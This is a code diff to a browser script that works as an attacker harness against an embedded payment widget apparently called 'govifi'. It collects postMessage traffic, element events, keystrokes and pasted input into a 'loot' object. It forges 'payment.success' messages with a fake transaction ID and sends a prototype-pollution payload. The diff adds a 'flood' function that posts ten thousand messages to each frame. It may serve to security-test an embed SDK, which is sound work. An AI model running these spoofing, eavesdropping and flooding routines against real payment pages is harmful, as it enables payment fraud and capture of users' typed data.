@@ -7,7 +7,7 @@
 
 (function () {
   "use strict";
-  const loot = (window.loot = { calls: [], messages: [], tried: [] });
+  const loot = (window.loot = { calls: [], messages: [], events: [], tried: [] });
   const keep = (where, values) => {
     for (const value of values) {
       let text;
@@ -16,10 +16,11 @@
       } catch {
         text = String(value);
       }
-      if (text !== undefined) loot.calls.push({ where, text });
+      // Its own forgeries of a megabyte are no loot.
+      if (text !== undefined && text.length < 100000) loot.calls.push({ where, text });
     }
   };
-  const real = { stringify: JSON.stringify };
+  const real = { stringify: JSON.stringify, parse: JSON.parse };
   const Channel = window.MessageChannel;
 
   // 1. What can be patched is patched: it listens, and does as before.
@@ -62,7 +63,15 @@
 
   // 2. Everything that is said to this window is kept.
   window.addEventListener("message", (event) => {
-    loot.messages.push({ origin: event.origin, data: event.data });
+    if (!event.data?.padding) loot.messages.push({ origin: event.origin, data: event.data });
+  });
+  // What the element says, and what anybody may have made it say.
+  import("/embed/files/events.js").then(({ EVENTS }) => {
+    for (const name of EVENTS) {
+      document.addEventListener(name, (event) => {
+        loot.events.push({ name, detail: event.detail, target: event.target.localName });
+      });
+    }
   });
   for (const name of ["keydown", "input", "paste", "focusin", "pointerdown"]) {
     document.addEventListener(name, (event) => {
@@ -93,7 +102,7 @@
       { type: "event", event: "payment.success", detail: { sessionId: id } },
       { type: "govifi:event", event: "payment.success", detail: { sessionId: id } },
       { type: "answer", id: 1, value: {} },
-      JSON.parse('{"__proto__": {"type": "govifi:connect", "polluted": true}}'),
+      real.parse.call(JSON, '{"__proto__": {"type": "govifi:connect", "polluted": true}}'),
       "govifi:connect", null, 7, [], [{ type: "govifi:connect" }],
     ];
   };
@@ -109,6 +118,7 @@
         ["Tried", loot.tried.join(", ") || "nothing yet"],
         ["Patched calls heard", loot.calls.length],
         ["Messages heard", loot.messages.length],
+        ["Events heard", loot.events.map(({ name }) => name).join(", ") || "none"],
       ];
       facts.replaceChildren(...rows.map(([name, value]) => {
         const row = document.createElement("div");
@@ -163,6 +173,16 @@
       loot.tried.push("a cover");
     };
 
+    /** Says so much that nobody can listen. */
+    window.flood = (count = 10000) => {
+      for (const frame of frames()) {
+        for (let at = 0; at < count; at += 1) {
+          frame.postMessage({ type: "govifi:connect", protocol: 1, sessionId: id, at }, "*");
+        }
+      }
+      loot.tried.push("a flood");
+    };
+
     /** Says to the page that it was paid. A page that believes it is to blame itself. */
     window.pretend = () => {
       const detail = { sessionId: id, transactionId: "txn_forged" };
@@ -191,12 +211,12 @@
     const controls = document.querySelector(".panel");
     const group = document.createElement("div");
     group.className = "calls";
-    for (const name of ["forge", "sibling", "popup", "cover", "pretend", "pry"]) {
+    for (const name of ["forge", "flood", "sibling", "popup", "cover", "pretend", "pry"]) {
       const button = document.createElement("button");
       button.type = "button";
       button.className = "quiet";
       button.textContent = name;
-      button.addEventListener("click", () => window[name](true));
+      button.addEventListener("click", () => window[name](name === "flood" ? undefined : true));
       group.append(button);
     }
     controls.querySelector("h2").after(group);
